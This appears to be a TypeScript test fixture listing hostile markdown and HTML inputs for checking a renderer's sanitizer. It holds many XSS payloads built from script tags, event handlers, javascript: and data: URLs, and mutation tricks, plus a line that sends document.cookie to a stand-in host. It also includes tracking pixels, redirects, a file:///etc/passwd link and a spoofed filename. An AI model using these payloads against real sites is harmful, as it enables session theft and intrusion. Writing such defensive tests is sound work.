const payloads = ["alert(1)", "fetch('//evil.example/'+document.cookie)"];
const events = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerenter", "onanimationstart"];
const elements = ["img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open", "input autofocus", "marquee", "math", "object data=x", "embed src=x"];
const schemes = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "\u0001javascript:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
  "file:///etc/passwd", "blob:https://evil.example/1", "filesystem:https://evil.example/x", "intent://x#Intent;scheme=http;end", "view-source:javascript:alert(1)",
  "//evil.example/x", "/chat/main", "\\\\evil.example\\x", "https://trusted.example@evil.example/", "?gatewayUrl=ws://evil.example", "#token=stolen",
];

/** Markdown that tries to run, load or lead somewhere; also given to a real browser by the end-to-end test. */
export const hostileMarkdown: readonly string[] = [
  ...payloads.flatMap((code) => [
    `<script>${code}</script>`,
    `<script src=//evil.example/x.js></script>`,
    `</p><script>${code}</script>`,
    `<scr<script>ipt>${code}</scr</script>ipt>`,
    `<style>@import "//evil.example/x.css"</style><script>${code}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
    `<svg><script>${code}</script></svg>`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
    `<template><script>${code}</script></template>`,
    `\`<script>${code}</script>\``,
    `\`\`\`html\n<script>${code}</script>\n\`\`\``,
    `> <script>${code}</script>`,
    `- <img src=x onerror=${code}>`,
    `| a |\n|---|\n| <img src=x onerror="${code}"> |`,
    `[x]: javascript:${code}\n\n[click][x]`,
    `[x](<javascript:${code}>)`,
    `![x](javascript:${code})`,
    `[![x](x" onerror="${code})](javascript:${code})`,
    `[^1]: <script>${code}</script>\n\nnote[^1]`,
    `# <a href="javascript:${code}">x</a>`,
  ]),
  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1)>`)),
  ...schemes.flatMap((address) => [`[x](${address})`, `![x](${address})`, `<${address}>`, `[x]: ${address}\n\n[x]`, `<a href="${address}">x</a>`]),
  `![x](https://evil.example/pixel.gif)`,
  `![x](https://evil.example/pixel.gif "t\\" onerror=alert(1)")`,
  `<img src="https://evil.example/pixel.gif">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<div style="background:url(https://evil.example/x)">x</div>`,
  "```\"onmouseover=alert(1)\nx\n```",
  "```js\u0000<img src=x onerror=alert(1)>\nx\n```",
  `www.evil.example/"onmouseover="alert(1)`,
  `https://evil.example/"><script>alert(1)</script>`,
  `a@evil.example"onclick=alert(1)`,
  `[a](https://evil.example "x" onclick=alert(1))`,
  `[\u202Egnp.exe](https://evil.example)`,
];
